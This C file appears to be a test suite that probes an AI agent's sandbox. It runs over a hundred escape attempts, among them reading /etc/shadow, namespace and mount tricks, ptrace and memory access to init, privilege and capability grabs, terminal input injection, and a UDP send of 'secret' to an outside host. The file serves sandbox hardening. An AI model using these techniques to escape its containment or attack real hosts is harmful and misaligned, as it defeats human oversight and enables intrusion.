/* attempts.c -- attacks that need system calls, as the agent would try them.
 *
 * usage: attempts [NAME]...	all, without a name
 *
 * Each runs in a child. A line each: "NAME done" if it worked, "NAME errno
 * N" if it was refused, "NAME signal N" if it was killed for it. Static, so
 * that it runs whatever the sandbox shows of the system. Where one works, it
 * has worked: so it refuses to run anywhere but as a sandbox's user. */
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/filter.h>
#include <linux/if.h>
#include <linux/netlink.h>
#include <linux/perf_event.h>
#include <linux/rtnetlink.h>
#include <linux/vm_sockets.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

#define SHADOW "/etc/shadow"
#define HIGH (1L << 32)	/* a bit that a 32-bit compare does not see */

/* ---- 4, 7, 8: files, by every call and every spelling ---- */

static int
read_by_open(void)
{
	return (int)syscall(SYS_openat, AT_FDCWD, SHADOW, O_RDONLY);
}

static int
read_by_openat2(void)
{
	uint64_t how[3] = { O_RDONLY, 0, 0 };

	return (int)syscall(437, AT_FDCWD, SHADOW, how, sizeof(how));
}

static int
openat2_sized(size_t size)
{
	static char how[8192] __attribute__((aligned(8)));

	return (int)syscall(437, AT_FDCWD, SHADOW, how, size);
}

static int read_by_openat2_empty(void) { return openat2_sized(0); }
static int read_by_openat2_short(void) { return openat2_sized(8); }
static int read_by_openat2_odd(void) { return openat2_sized(25); }
static int read_by_openat2_page(void) { return openat2_sized(4096); }
static int read_by_openat2_huge(void) { return openat2_sized(8192); }

static int
read_by_openat2_in_root(void)
{
	uint64_t how[3] = { O_RDONLY, 0, 0x10 /* RESOLVE_IN_ROOT */ };

	return (int)syscall(437, open("/", O_PATH), SHADOW, how, sizeof(how));
}

static int
read_by_path_fd(void) /* O_PATH, then the magic link */
{
	char link[64];
	int fd = open(SHADOW, O_PATH);

	if (fd == -1)
		return -1;
	(void)snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
	return open(link, O_RDONLY);
}

static int
read_by_self_root(void)
{
	return open("/proc/self/root" SHADOW, O_RDONLY);
}

static int
read_by_init_root(void)
{
	return open("/proc/1/root" SHADOW, O_RDONLY);
}

static int
read_by_dots(void)
{
	return open("/home/sandbox/../../../..//etc/./shadow", O_RDONLY);
}

static int
read_by_hard_link(void)
{
	if (link(SHADOW, "/home/sandbox/shadow-link") == -1)
		return -1;
	return open("/home/sandbox/shadow-link", O_RDONLY);
}

static int
read_by_symlink(void)
{
	(void)unlink("/home/sandbox/shadow-sym");
	if (symlink(SHADOW, "/home/sandbox/shadow-sym") == -1)
		return -1;
	return open("/home/sandbox/shadow-sym", O_RDONLY);
}

static int
read_by_rename(void)
{
	return rename(SHADOW, "/home/sandbox/shadow-moved");
}

static int
read_by_exchange(void)
{
	int fd = open("/home/sandbox/mine", O_CREAT | O_WRONLY, 0600);

	(void)close(fd);
	return (int)syscall(SYS_renameat2, AT_FDCWD, SHADOW, AT_FDCWD,
	    "/home/sandbox/mine", 2 /* RENAME_EXCHANGE */);
}

static int
read_by_cwd_of_init(void)
{
	return open("/proc/1/cwd/etc/shadow", O_RDONLY);
}

static int
open_by_handle(void)
{
	struct {
		unsigned bytes;
		int type;
		unsigned char f[64];
	} h = { 8, 1, { 2 } };

	return (int)syscall(SYS_open_by_handle_at, AT_FDCWD, &h, O_RDONLY);
}

static int
name_to_handle(void)
{
	struct {
		unsigned bytes;
		int type;
		unsigned char f[128];
	} h = { .bytes = 128 };
	int id;

	return (int)syscall(SYS_name_to_handle_at, AT_FDCWD, "/", &h, &id, 0);
}

/* ---- 18, 31, 35: namespaces, mounts, network administration ---- */

static int
mount_tmpfs(void)
{
	return mount("none", "/home/sandbox", "tmpfs", 0, NULL);
}

static int
remount_writable(void)
{
	return mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL);
}

static int
mount_by_new_calls(void)
{
	return (int)syscall(430 /* fsopen */, "tmpfs", 0);
}

static int
clone_a_tree(void)
{
	return (int)syscall(428 /* open_tree */, AT_FDCWD, "/", 1U);
}

static int
set_mount_attributes(void)
{
	uint64_t attr[4] = { 0, 1 /* clear RDONLY */, 0, 0 };

	return (int)syscall(442, AT_FDCWD, "/", 0, attr, sizeof(attr));
}

static int
pick_a_mount(void)
{
	return (int)syscall(433 /* fspick */, AT_FDCWD, "/", 0);
}

static int
move_a_mount(void)
{
	return (int)syscall(429, AT_FDCWD, "/proc", AT_FDCWD, "/tmp", 0);
}

static int
clone_a_tree_with_attributes(void)
{
	uint64_t attr[4] = { 0, 1, 0, 0 };

	return (int)syscall(467 /* open_tree_attr */, AT_FDCWD, "/", 1U, attr,
	    sizeof(attr));
}

static int
unmount_proc(void)
{
	return umount2("/proc", MNT_DETACH);
}

static int
pivot(void)
{
	return (int)syscall(SYS_pivot_root, "/tmp", "/tmp");
}

static int
change_root(void)
{
	return chroot("/tmp");
}

static int
unshare_user(void)
{
	return unshare(CLONE_NEWUSER);
}

static int
unshare_mount(void)
{
	return unshare(CLONE_NEWNS);
}

static int
unshare_net(void)
{
	return unshare(CLONE_NEWNET);
}

static int
unshare_time(void)
{
	return unshare(0x80);
}

static int
clone_user(void)
{
	int pid = (int)syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);

	if (pid == 0)
		_exit(0);
	return pid;
}

static int
clone3_user(void)
{
	uint64_t args[11] = { CLONE_NEWUSER | CLONE_NEWNET };
	int pid = (int)syscall(435, args, sizeof(args));

	if (pid == 0)
		_exit(0);
	return pid;
}

static int
clone3_padded(void) /* flags where no filter looks, a size of the future */
{
	uint64_t args[64] = { CLONE_NEWUSER };
	int pid = (int)syscall(435, args, sizeof(args));

	if (pid == 0)
		_exit(0);
	return pid;
}

static int
clone3_into_cgroup(void)
{
	uint64_t args[11] = { 1ULL << 33, [4] = SIGCHLD };
	int fd = open("/sys/fs/cgroup", O_RDONLY | O_DIRECTORY), pid;

	args[10] = (uint64_t)fd;
	pid = (int)syscall(435, args, sizeof(args));
	if (pid == 0)
		_exit(0);
	return pid;
}

static int
clone_user_high_bits(void)
{
	int pid = (int)syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD | HIGH, 0,
	    0, 0, 0);

	if (pid == 0)
		_exit(0);
	return pid;
}

static int
join_namespace(void)
{
	int fd = open("/proc/1/ns/net", O_RDONLY);

	return fd == -1 ? -1 : setns(fd, 0);
}

static int
join_by_pidfd(void)
{
	int fd = (int)syscall(434 /* pidfd_open */, 1, 0);

	return fd == -1 ? -1 : setns(fd, CLONE_NEWNET | CLONE_NEWNS);
}

static int
set_interface(void)
{
	struct ifreq r = { .ifr_name = "lo" };
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	r.ifr_flags = 0;
	return fd == -1 ? -1 : ioctl(fd, 0x8914 /* SIOCSIFFLAGS */, &r);
}

static int
set_socket(int level, int option, const void *value, socklen_t n)
{
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	return fd == -1 ? -1 : setsockopt(fd, level, option, value, n);
}

static int
mark_packets(void)
{
	return set_socket(SOL_SOCKET, 36 /* SO_MARK */, &(int){ 1 }, 4);
}

static int
be_transparent(void)
{
	return set_socket(IPPROTO_IP, 19 /* IP_TRANSPARENT */, &(int){ 1 }, 4);
}

static int
repair_a_connection(void)
{
	return set_socket(IPPROTO_TCP, 19 /* TCP_REPAIR */, &(int){ 1 }, 4);
}

static int
replace_packet_filters(void)
{
	char table[128] = "filter";

	return set_socket(IPPROTO_IP, 64 /* IPT_SO_SET_REPLACE */, table,
	    sizeof(table));
}

static int
forge_credentials(void) /* who sent a message is not init */
{
	struct { pid_t pid; uid_t uid; gid_t gid; } who = { 1, 0, 0 };
	char byte = 'x', control[CMSG_SPACE(sizeof(who))] = "";
	struct iovec iov = { &byte, 1 };
	struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1,
		.msg_control = control, .msg_controllen = sizeof(control) };
	struct cmsghdr *c = CMSG_FIRSTHDR(&m);
	int pair[2];

	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = 2; /* SCM_CREDENTIALS */
	c->cmsg_len = CMSG_LEN(sizeof(who));
	memcpy(CMSG_DATA(c), &who, sizeof(who));
	if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) == -1)
		return -1;
	return (int)sendmsg(pair[0], &m, 0);
}

static int
make_device(void)
{
	if (mknod("/home/sandbox/kmem", S_IFBLK | 0600, 0x0801) == -1)
		return -1;
	return open("/home/sandbox/kmem", O_RDONLY);
}

/* ---- 25, 30, 52: sockets ---- */

static int
sock(long family, int type, int protocol)
{
	return (int)syscall(SYS_socket, family, type, protocol);
}

static int sock_raw(void) { return sock(AF_INET, SOCK_RAW, 1); }
static int sock_raw6(void) { return sock(AF_INET6, SOCK_RAW, 58); }
static int sock_packet(void) { return sock(AF_PACKET, SOCK_RAW, 0); }
/* rtnetlink (0) is there: it lists the one interface, as libc does */
static int sock_netfilter(void) { return sock(AF_NETLINK, SOCK_RAW, 12); }
static int sock_xfrm(void) { return sock(AF_NETLINK, SOCK_RAW, 6); }
static int sock_audit(void) { return sock(AF_NETLINK, SOCK_RAW, 9); }
static int sock_vsock(void) { return sock(AF_VSOCK, SOCK_STREAM, 0); }
static int sock_alg(void) { return sock(AF_ALG, SOCK_SEQPACKET, 0); }
static int sock_bluetooth(void) { return sock(AF_BLUETOOTH, SOCK_RAW, 1); }
static int sock_key(void) { return sock(AF_KEY, SOCK_RAW, 2); }
static int sock_rds(void) { return sock(AF_RDS, SOCK_SEQPACKET, 0); }
static int sock_tipc(void) { return sock(AF_TIPC, SOCK_SEQPACKET, 0); }
static int sock_xdp(void) { return sock(44, SOCK_RAW, 0); }
static int sock_smc(void) { return sock(43, SOCK_STREAM, 0); }
static int sock_can(void) { return sock(AF_CAN, SOCK_RAW, 1); }
static int sock_sctp(void) { return sock(AF_INET, SOCK_SEQPACKET, 132); }
static int sock_dccp(void) { return sock(AF_INET, 6, 33); }
static int sock_mptcp(void) { return sock(AF_INET, SOCK_STREAM, 262); }
static int sock_ping(void) { return sock(AF_INET, SOCK_DGRAM, 1); }

static int
sock_packet_high_bits(void)
{
	return sock(AF_PACKET | HIGH, SOCK_RAW, 0);
}

static int
add_an_address(void) /* rtnetlink may list, never change */
{
	struct {
		struct nlmsghdr h;
		struct ifaddrmsg a;
		struct rtattr r;
		uint32_t address;
	} m = { { sizeof(m), RTM_NEWADDR,
		    NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE, 1, 0 },
		{ AF_INET, 32, 0, 0, 1 }, { 8, IFA_LOCAL }, 0x0106802c };
	struct {
		struct nlmsghdr h;
		int error;
		char rest[512];
	} got = { .error = -EIO };
	int fd = sock(AF_NETLINK, SOCK_RAW, 0);

	if (fd == -1 || send(fd, &m, sizeof(m), 0) == -1 ||
	    recv(fd, &got, sizeof(got), 0) == -1)
		return -1;
	errno = -got.error;
	return got.error == 0 ? 0 : -1;
}

static int
tcp_fast_open(void) /* sendto with MSG_FASTOPEN instead of connect */
{
	struct sockaddr_in a = { .sin_family = AF_INET,
		.sin_port = htons(80) };
	int fd = sock(AF_INET, SOCK_STREAM, 0);
	char answer[16];

	a.sin_addr.s_addr = htonl(0x2c800601); /* echo.test */
	if (fd == -1 || sendto(fd, "GET / HTTP/1.0\r\n\r\n", 18, 0x20000000,
		(struct sockaddr *)&a, sizeof(a)) == -1)
		return -1;
	/* egress catches it and refuses; anything else came from there */
	return read(fd, answer, sizeof(answer)) == sizeof(answer) &&
	    memcmp(answer, "HTTP/1.1 403 ", 13) != 0 ? 0 : -1;
}

static int
udp_to_the_world(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET,
		.sin_port = htons(53) };
	int fd = sock(AF_INET, SOCK_DGRAM, 0);

	a.sin_addr.s_addr = htonl(0x2c800035); /* its name server */
	if (fd == -1)
		return -1;
	return (int)sendto(fd, "secret", 6, 0, (struct sockaddr *)&a,
	    sizeof(a));
}

static int
tcp6_to_the_world(void)
{
	struct sockaddr_in6 a = { .sin6_family = AF_INET6,
		.sin6_port = htons(80) };
	int fd = sock(AF_INET6, SOCK_STREAM, 0);

	a.sin6_addr.s6_addr[0] = 0x20;
	a.sin6_addr.s6_addr[1] = 0x01;
	a.sin6_addr.s6_addr[15] = 1;
	return fd == -1 ? -1 : connect(fd, (struct sockaddr *)&a, sizeof(a));
}

/* ---- 20, 29, 33, 34: kernel surface and other processes ---- */

static int
io_uring(void)
{
	char params[256] = { 0 };

	return (int)syscall(425, 4, params);
}

static int
bpf_call(void)
{
	union bpf_attr a = { .map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4,
		.value_size = 4, .max_entries = 1 };

	return (int)syscall(SYS_bpf, BPF_MAP_CREATE, &a, sizeof(a));
}

static int
perf(void)
{
	struct perf_event_attr a = { .type = PERF_TYPE_SOFTWARE,
		.size = sizeof(a), .exclude_kernel = 1 };

	return (int)syscall(SYS_perf_event_open, &a, 0, -1, -1, 0);
}

static int userfault(void) { return (int)syscall(SYS_userfaultfd, 1); }

static int
add_a_key(void)
{
	return (int)syscall(SYS_add_key, "user", "x", "y", 1, -3);
}

static int
read_keys(void)
{
	return (int)syscall(SYS_keyctl, 0, -3, 1);
}

static int
load_module(void)
{
	return (int)syscall(SYS_finit_module, 0, "", 0);
}

static int
kexec(void)
{
	return (int)syscall(SYS_kexec_load, 0, 0, 0, 0);
}

static int
set_clock(void)
{
	return (int)syscall(SYS_settimeofday, (long[]){ 1, 0 }, 0);
}

static int
set_host_name(void)
{
	return sethostname("evil", 4);
}

static int
fanotify(void)
{
	return (int)syscall(SYS_fanotify_init, 0, 0);
}

static int
quota(void)
{
	return (int)syscall(SYS_quotactl, 0x800007 << 8, "/", 0, memset);
}

static int
swap_on(void)
{
	return (int)syscall(SYS_swapon, "/home/sandbox/x", 0);
}

static int
io_ports(void)
{
#ifdef __x86_64__
	return (int)syscall(SYS_iopl, 3);
#else
	errno = ENOSYS;
	return -1;
#endif
}

static int
trace_init(void)
{
	return (int)ptrace(PTRACE_SEIZE, 1, 0, 0);
}

static int
write_init_memory(void)
{
	return open("/proc/1/mem", O_RDWR);
}

static int
read_init_memory(void)
{
	char b[8];
	struct iovec mine = { b, 8 }, theirs = { (void *)0x400000, 8 };

	return (int)process_vm_readv(1, &mine, 1, &theirs, 1, 0);
}

static int
steal_from_init(void)
{
	int fd = (int)syscall(434, 1, 0);

	return fd == -1 ? -1 : (int)syscall(438 /* pidfd_getfd */, fd, 3, 0);
}

static int
write_init_memory_by_call(void)
{
	char b[8] = "";
	struct iovec mine = { b, 8 }, theirs = { (void *)0x400000, 8 };

	return (int)process_vm_writev(1, &mine, 1, &theirs, 1, 0);
}

static int
advise_init(void)
{
	struct iovec theirs = { (void *)0x400000, 4096 };
	int fd = (int)syscall(434, 1, 0);

	return fd == -1 ? -1 : (int)syscall(440 /* process_madvise */, fd,
	    &theirs, 1, MADV_PAGEOUT, 0);
}

static int
compare_with_init(void)
{
	return (int)syscall(SYS_kcmp, getpid(), 1, 1 /* KCMP_VM */, 0, 0);
}

static int
request_a_key(void)
{
	return (int)syscall(SYS_request_key, "user", "x", NULL, -3);
}

static int
read_kernel_log(void)
{
	char b[64];

	return (int)syscall(SYS_syslog, 3, b, (int)sizeof(b));
}

static int
change_descriptor_table(void)
{
#ifdef __x86_64__
	uint32_t d[4] = { 0, 0, 0xfffff, 0x51 };

	return (int)syscall(SYS_modify_ldt, 1, d, sizeof(d));
#else
	errno = ENOSYS;
	return -1;
#endif
}

static int account(void) { return (int)syscall(SYS_acct, "/tmp/acct"); }
static int restart(void) { return (int)syscall(SYS_reboot, 0, 0, 0, 0); }

static int
step_clock(void)
{
	return (int)syscall(SYS_clock_settime, 0, (long[]){ 1, 0 });
}

static int
slew_clock(void)
{
	struct { unsigned modes; char rest[256]; } t = { .modes = 0x4000 };

	return (int)syscall(SYS_clock_adjtime, 0, &t);
}

static int
hide_memory(void) /* from who looks into it */
{
	return (int)syscall(447 /* memfd_secret */, 0);
}

static int
raise_ambient(void)
{
	return prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, 21, 0, 0);
}

static int
set_memory_map(void)
{
	return prctl(PR_SET_MM, PR_SET_MM_BRK, 0x10000000, 0, 0);
}

static int
trace_by_invitation(void)
{
	return prctl(PR_SET_PTRACER, 1, 0, 0, 0) == -1 ? -1 :
	    (int)ptrace(PTRACE_ATTACH, 1, 0, 0);
}

static int
overcommit(void)
{
	return open("/proc/sys/vm/overcommit_memory", O_WRONLY);
}

static int
drop_caches(void)
{
	return open("/proc/sys/vm/drop_caches", O_WRONLY);
}

static int
choose_pid(void)
{
	return open("/proc/sys/kernel/ns_last_pid", O_WRONLY);
}

static int
host_name_file(void)
{
	return open("/proc/sys/kernel/hostname", O_WRONLY);
}

static int
forward_packets(void)
{
	return open("/proc/sys/net/ipv4/ip_forward", O_WRONLY);
}

static int
low_ports(void)
{
	return open("/proc/sys/net/ipv4/ip_unprivileged_port_start",
	    O_WRONLY);
}

static int
map_users(void)
{
	return open("/proc/self/uid_map", O_WRONLY);
}

static int
name_login(void)
{
	return open("/proc/self/loginuid", O_WRONLY);
}

static int
read_memory(void)
{
	return open("/dev/mem", O_RDONLY);
}

static int
read_log(void)
{
	return open("/dev/kmsg", O_RDONLY);
}


static int
write_kernel_settings(void)
{
	return open("/proc/sys/kernel/core_pattern", O_WRONLY);
}

static int
trigger_sysrq(void)
{
	return open("/proc/sysrq-trigger", O_WRONLY);
}

static int
read_kernel_memory(void)
{
	return open("/proc/kcore", O_RDONLY);
}

static int
lease_a_program(void) /* whoever starts it then waits for us */
{
	int fd = open("/usr/bin/tac", O_RDONLY);

	return fd == -1 ? -1 : fcntl(fd, 1024 /* F_SETLEASE */, F_WRLCK);
}

static int
lease_a_file_of_our_own(void)
{
	int fd = open("/tmp/leased", O_RDONLY | O_CREAT, 0600);

	return fd == -1 ? -1 : fcntl(fd, 1024, F_RDLCK);
}

static int
change_device_mode(void) /* a node of the host's, and perhaps our own */
{
	return chmod("/dev/full", 0666);
}

static int
change_device_times(void)
{
	return utimensat(AT_FDCWD, "/dev/full", NULL, 0);
}

static int
write_cgroup(void)
{
	return open("/sys/fs/cgroup/cgroup.procs", O_WRONLY);
}

static int
write_oom(void) /* protect oneself from the OOM killer */
{
	int fd = open("/proc/self/oom_score_adj", O_WRONLY);

	return fd == -1 ? -1 : (int)write(fd, "-1000", 5);
}

static int
new_filter_with_notify(void) /* a listener of one's own for children */
{
	struct sock_filter all[] = { { 6, 0, 0, 0x7fff0000U } };
	struct sock_fprog prog = { 1, all };

	return (int)syscall(SYS_seccomp, 1, 8 /* NEW_LISTENER */, &prog);
}

static int
compat_call(void)
{
#ifdef __x86_64__
	long r;

	__asm__ volatile("int $0x80" : "=a"(r) : "a"(20) : "memory", "r8",
	    "r9", "r10", "r11");
	errno = (int)-r;
	return r < 0 ? -1 : 0;
#else
	errno = ENOSYS;
	return -1;
#endif
}

static int
x32_call(void)
{
	return (int)syscall(0x40000000 + SYS_getpid);
}

static int
personality_call(void) /* READ_IMPLIES_EXEC | ADDR_NO_RANDOMIZE */
{
	return (int)syscall(SYS_personality, 0x0440000);
}

/* ---- 28: the terminal ---- */

static int
push_input(void)
{
	char c = 'x';

	return ioctl(0, TIOCSTI, &c);
}

static int
push_input_high_bits(void)
{
	char c = 'x';

	return (int)syscall(SYS_ioctl, 0, TIOCSTI | HIGH, &c);
}

static int
console_paste(void)
{
	char c = 3; /* TIOCL_PASTESEL */

	return ioctl(0, TIOCLINUX, &c);
}

/* ---- 21, 32: rights ---- */

static int
raise_core_limit(void)
{
	struct rlimit r = { 1 << 20, 1 << 20 };

	if (setrlimit(RLIMIT_CORE, &r) == -1 ||
	    getrlimit(RLIMIT_CORE, &r) == -1)
		return -1;
	errno = EPERM; /* it says "done"; is it? */
	return r.rlim_cur > 1 || r.rlim_max > 1 ? 0 : -1;
}

/* 0 would let the kernel start the host's crash handler as root. */
static int
lower_core_limit(void)
{
	struct rlimit r = { 0, 0 };

	if (setrlimit(RLIMIT_CORE, &r) == -1 ||
	    syscall(SYS_setrlimit, RLIMIT_CORE, &r) == -1 ||
	    getrlimit(RLIMIT_CORE, &r) == -1)
		return -1;
	errno = EPERM;
	return r.rlim_cur == 1 ? -1 : 0;
}

static int
set_id_file(void)
{
	return open("/tmp/set-id", O_WRONLY | O_CREAT, 04755);
}

static int
set_id_later(void)
{
	int fd = open("/tmp/plain", O_WRONLY | O_CREAT, 0755);

	return fd == -1 ? -1 : fchmod(fd, 04755);
}

static int
set_id_by_openat2(void)
{
	uint64_t how[3] = { O_WRONLY | O_CREAT, 04755, 0 };

	return (int)syscall(437, AT_FDCWD, "/tmp/set-id2", how, sizeof(how));
}

static int become_root(void) { return setuid(0); }
static int become_group(void) { return setgid(0); }

static int
drop_groups(void)
{
	return (int)syscall(SYS_setgroups, 0, NULL);
}

static int
take_capabilities(void)
{
	uint32_t head[2] = { 0x20080522, 0 };
	uint32_t data[6] = { ~0U, ~0U, ~0U, ~0U, ~0U, ~0U };

	return (int)syscall(SYS_capset, head, data);
}

static int
gain_by_setuid_program(void) /* still root after a set-uid program? */
{
	struct stat st;

	if (prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0) == 1) {
		errno = EPERM;
		return -1;
	}
	return stat("/", &st);
}

static int
memory_program_reads_shadow(void) /* memfd and execveat: same floor */
{
	char self[] = "/proc/self/exe", buf[65536];
	char *argv[] = { (char[]){ "m" }, (char[]){ "read_by_open" }, NULL };
	char *envp[] = { NULL };
	int in = open(self, O_RDONLY), out = memfd_create("m", 0), status;
	ssize_t n;
	pid_t pid;

	if (in == -1 || out == -1)
		return -1;
	while ((n = read(in, buf, sizeof(buf))) > 0)
		if (write(out, buf, (size_t)n) != n)
			return -1;
	pid = fork();
	if (pid == 0) {
		(void)syscall(SYS_execveat, out, "", argv, envp,
		    AT_EMPTY_PATH);
		_exit(1);
	}
	(void)waitpid(pid, &status, 0);
	errno = EACCES;
	return WIFEXITED(status) && WEXITSTATUS(status) == 0 ? 0 : -1;
}

#define A(class, name) { class, #name, name }
static const struct attempt {
	int class; /* of README.md */
	const char *name;
	int (*run)(void);
} attempts[] = {
	A(4, read_by_open), A(4, read_by_openat2),
	A(4, read_by_openat2_empty), A(4, read_by_openat2_short),
	A(4, read_by_openat2_odd), A(4, read_by_openat2_page),
	A(4, read_by_openat2_huge), A(4, read_by_openat2_in_root),
	A(7, read_by_hard_link), A(8, read_by_path_fd),
	A(8, read_by_self_root), A(8, read_by_init_root),
	A(8, read_by_dots), A(8, read_by_cwd_of_init),
	A(11, read_by_symlink), A(11, read_by_rename),
	A(11, read_by_exchange), A(17, open_by_handle),
	A(17, name_to_handle), A(18, mount_tmpfs),
	A(18, remount_writable), A(18, mount_by_new_calls),
	A(18, clone_a_tree), A(18, set_mount_attributes),
	A(18, unmount_proc), A(18, pivot), A(18, change_root),
	A(18, make_device), A(20, io_uring),
	A(21, memory_program_reads_shadow), A(35, add_an_address), A(25, sock_netfilter),
	A(25, sock_xfrm), A(25, sock_audit),
	A(25, sock_vsock), A(25, sock_alg), A(25, sock_bluetooth),
	A(25, sock_key), A(25, sock_rds), A(25, sock_tipc),
	A(25, sock_xdp), A(25, sock_smc), A(25, sock_can),
	A(28, push_input), A(28, console_paste), A(29, compat_call),
	A(29, x32_call), A(30, push_input_high_bits),
	A(30, sock_packet_high_bits), A(31, unshare_user),
	A(31, unshare_mount), A(31, unshare_net), A(31, unshare_time),
	A(31, clone_user), A(31, clone3_user), A(31, join_namespace),
	A(31, join_by_pidfd), A(32, become_root), A(32, become_group),
	A(32, drop_groups), A(32, take_capabilities),
	A(32, gain_by_setuid_program), A(32, raise_core_limit),
	A(32, lower_core_limit), A(32, set_id_file), A(32, set_id_later),
	A(32, set_id_by_openat2),
	A(32, write_oom), A(33, new_filter_with_notify),
	A(34, trace_init), A(34, write_init_memory),
	A(34, read_init_memory), A(34, steal_from_init),
	A(34, read_kernel_memory), A(35, set_interface),
	A(35, sock_packet), A(52, sock_raw), A(52, sock_raw6),
	A(52, sock_sctp), A(52, sock_dccp), A(52, sock_mptcp),
	A(52, sock_ping), A(52, tcp_fast_open), A(52, udp_to_the_world),
	A(52, tcp6_to_the_world), A(34, bpf_call), A(34, perf),
	A(34, userfault), A(34, add_a_key), A(34, read_keys),
	A(34, load_module), A(34, kexec), A(34, set_clock),
	A(34, set_host_name), A(34, fanotify), A(34, quota),
	A(34, swap_on), A(34, io_ports), A(34, personality_call),
	A(34, write_kernel_settings), A(34, trigger_sysrq),
	A(34, write_cgroup), A(34, change_device_mode),
	A(34, change_device_times), A(34, lease_a_program),
	A(34, lease_a_file_of_our_own),
	A(18, pick_a_mount), A(18, move_a_mount),
	A(18, clone_a_tree_with_attributes), A(30, clone_user_high_bits),
	A(31, clone3_padded), A(31, clone3_into_cgroup),
	A(35, mark_packets), A(35, be_transparent),
	A(35, repair_a_connection), A(35, replace_packet_filters),
	A(35, forward_packets), A(35, low_ports),
	A(27, forge_credentials), A(34, write_init_memory_by_call),
	A(34, advise_init), A(34, compare_with_init),
	A(34, request_a_key), A(34, read_kernel_log),
	A(34, change_descriptor_table), A(34, account), A(34, restart),
	A(34, step_clock), A(34, slew_clock), A(34, hide_memory),
	A(32, raise_ambient), A(34, set_memory_map),
	A(34, trace_by_invitation), A(34, overcommit), A(34, drop_caches),
	A(34, choose_pid), A(34, host_name_file), A(32, map_users),
	A(34, name_login), A(34, read_memory), A(34, read_log),
};

static int
attempt_run(const struct attempt *a)
{
	int status;
	pid_t pid = fork();

	if (pid == 0) {
		(void)alarm(10);
		errno = 0;
		if (a->run() != -1)
			printf("%s done\n", a->name);
		else
			printf("%s errno %d\n", a->name, errno);
		(void)fflush(stdout);
		_exit(0);
	}
	if (pid == -1 || waitpid(pid, &status, 0) != pid)
		return 2;
	if (WIFSIGNALED(status))
		printf("%s signal %d\n", a->name, WTERMSIG(status));
	(void)fflush(stdout);
	return 0;
}

/* By one name: the attempt itself, so that its answer is the exit code. */
int
main(int argc, char **argv)
{
	const size_t n = sizeof(attempts) / sizeof(*attempts);
	struct stat st;
	int rc = 0;

	if (getuid() != 1000 || geteuid() != 1000 ||
	    stat("/home/sandbox", &st) == -1) {
		fprintf(stderr, "attempts: only inside a sandbox\n");
		return 2;
	}
	for (size_t i = 0; argc != 2 && i < n; i++)
		rc |= attempt_run(&attempts[i]);
	for (size_t i = 0; argc == 2 && i < n; i++)
		if (strcmp(argv[1], attempts[i].name) == 0)
			return attempts[i].run() != -1 ? 0 : 1;
	return rc;
}
